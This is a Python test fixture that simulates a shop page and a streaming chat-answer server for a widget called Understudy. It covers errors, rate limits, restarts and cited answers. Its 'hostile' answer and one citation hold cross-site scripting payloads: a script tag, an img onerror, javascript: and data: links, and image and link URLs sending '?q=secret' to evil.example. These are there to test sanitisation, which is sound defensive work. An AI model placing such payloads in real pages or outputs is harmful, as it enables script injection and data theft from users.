"""A shop's site whose pages load the chat under a strict policy, and answers as Understudy streams them, with every fault."""

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

KEY = "pk_" + "0" * 64
QUOTE = "A drum kit costs 40 euros a week."
GOOD = "A **drum kit** costs 40 euros a week [1].\n\n- Delivery is free [2].\n- It costs 4 euros on Sundays [2].\n"


def citation(index, quote, verified=True, **more):
    return {
        "index": index, "document_id": f"d{index}", "title": f"Document {index}", "url": "https://shop.example/prices", "quote": quote,
        "start": 0, "end": len(quote), "score": 1.0, "verified": verified, "page": None, "headings": ["Prices", "Drums"],
    } | more


def sentence(text, part, citations, verified):
    start = text.index(part)
    return {"start": start, "end": start + len(part), "citations": citations, "verified": verified}


def done(answer, **more):
    return "done", {
        "answer": answer, "citations": [], "sentences": [], "coverage": "answered", "indexing": 0, "model": "sim:lead", "cached": False,
        "latency_ms": 5, "session_id": "s", "message_id": "m", "request_id": "r",
    } | more


CITED = done(
    GOOD,
    citations=[
        citation(1, QUOTE),
        citation(2, "We deliver for nothing from Monday to Saturday.", False, page=3, url="javascript:alert(1)", headings=[]),
    ],
    sentences=[
        sentence(GOOD, "A **drum kit** costs 40 euros a week [1].", [1], True),
        sentence(GOOD, "Delivery is free [2].", [2], True), sentence(GOOD, "It costs 4 euros on Sundays [2].", [2], False),
    ])
HOSTILE = """<img src=x onerror="window.stolen=1"><script>window.stolen=1</script>

![leak](https://evil.example/?q=secret) [click](javascript:window.stolen=1) [here](https://evil.example/?q=secret) [shop](/x)

[ours](https://shop.example/help) `<b>` <a href="https://evil.example">raw</a> [9] [data](data:text/html,hi) ** * [ `

| a | b |
|---|---|
| <i>1</i> | 2 |
"""


class Web(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, handler):
        super().__init__(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def stop(self):
        self.shutdown()
        self.server_close()


class Answers(Web):
    """Speaks what the widget hears from /api/v1/chat; what the question says is what happens."""

    def __init__(self, script):
        self.script, self.asked, self.left = script, [], 0
        super().__init__(AnswersHandler)


class Quiet(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, body=b"", kind="application/json", **headers):
        self.send_response(status)
        for name, value in ({"content-type": kind, "content-length": str(len(body))} | headers).items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)


CORS = {"access-control-allow-origin": "*", "access-control-expose-headers": "retry-after"}


class AnswersHandler(Quiet):
    def do_GET(self):
        self.reply(200, self.server.script, "text/javascript; charset=utf-8", **{"cross-origin-resource-policy": "cross-origin"})

    def do_OPTIONS(self):
        self.reply(204, **CORS, **{
            "access-control-allow-headers": "authorization, content-type, x-understudy-visitor", "access-control-allow-methods": "POST"})

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.asked.append((self.path, dict(self.headers), body))
        question = body.get("question", "")
        if "out" in question:
            return self.refuse(503, "all_models_unavailable", 300)
        if "limited" in question:
            return self.refuse(429, "rate_limit_exceeded", 300)
        if "refused" in question:
            return self.refuse(403, "origin_not_allowed")
        self.send_response(200)
        for name, value in CORS.items():
            self.send_header(name, value)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        try:
            for event, data in events(question):
                self.wfile.write(f"event: {event}\ndata: {json.dumps(data)}\n\n".encode())
                self.wfile.flush()
        except OSError:
            self.server.left += 1

    def refuse(self, status, code, wait=None):
        error = {"code": code, "message": "No.", "request_id": "r"} | ({"retry_after_seconds": wait} if wait else {})
        self.reply(status, json.dumps({"error": error}).encode(), **CORS, **({"retry-after": str(wait)} if wait else {}))


def events(question):
    yield "started", {"model": "sim:lead"}
    if "slow" in question:
        for number in range(2000):
            yield "delta", {"text": f"word {number} "}
            time.sleep(0.05)
    elif "cut" in question:
        yield "delta", {"text": "It begins and"}
    elif "fails" in question:
        yield "delta", {"text": "It begins and"}
        yield "failed", {"error": {"code": "all_models_unavailable", "message": "No.", "request_id": "r", "retry_after": 300}}
    elif "hostile" in question:
        yield done(HOSTILE, citations=[citation(1, "<b>quoted</b>", title="<i>Title</i>")])
    elif "reading" in question:
        yield done("The documents do not say yet.", coverage="still_indexing", indexing=2)
    else:
        if "restart" in question:
            yield "delta", {"text": "Nonsense that is void."}
            yield "restarted", {"model": "sim:second"}
        for part in re.findall(r".{1,9}", GOOD, re.DOTALL):
            yield "delta", {"text": part}
            time.sleep(0.01)
        yield CITED


STYLE = """body { font: 16px/1.5 sans-serif; max-width: 40rem; margin: 2rem auto; padding: 0 1rem; color: #222; background: #fff; }
@media (prefers-color-scheme: dark) { body { color: #eee; background: #111; } }"""
UGLY = STYLE + """
* { color: lime !important; font: italic 37px cursive !important; letter-spacing: 9px !important; text-transform: uppercase !important;
    border: 3px dashed red !important; opacity: 0.9 !important; position: static !important; float: left !important; }
button, textarea, section, details { display: none !important; background: yellow !important; }"""


class Shop(Web):
    """The shop's own pages: `/`, `/ugly`, and `/twice`, which loads the chat two times."""

    def __init__(self, server, attributes="", language="en"):
        self.server_url, self.attributes, self.language, self.key = server, attributes, language, KEY
        super().__init__(ShopHandler)


class ShopHandler(Quiet):
    def do_GET(self):
        path = self.path.split("?")[0]
        if path.endswith(".css"):
            return self.reply(200, (UGLY if path == "/ugly.css" else STYLE).encode(), "text/css")
        if path == "/favicon.ico":
            return self.reply(204)
        shop = self.server
        tag = f'<script src="{shop.server_url}/widget.js" data-key="{shop.key}" {shop.attributes} async></script>'
        body = f"""<!doctype html><html lang="{shop.language}"><head><meta charset="utf-8"><title>Drums to rent</title>
            <meta name="viewport" content="width=device-width, initial-scale=1, viewport-fit=cover">
            <link rel="stylesheet" href="{"/ugly.css" if path == "/ugly" else "/page.css"}">{tag * (2 if path == "/twice" else 1)}</head>
            <body><main><h1>Drums to rent</h1><p id="passage">Our jazz kit has four drums and two cymbals, and fits into a small car.</p>
            <p><label>Search <input id="search"></label></p></main></body></html>"""
        policy = "; ".join([
            "default-src 'none'", f"script-src {shop.server_url}", f"connect-src {shop.server_url}", "style-src 'self'",
            "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'", "trusted-types 'none'"])
        self.reply(200, body.encode(), "text/html; charset=utf-8", **{"content-security-policy": policy})
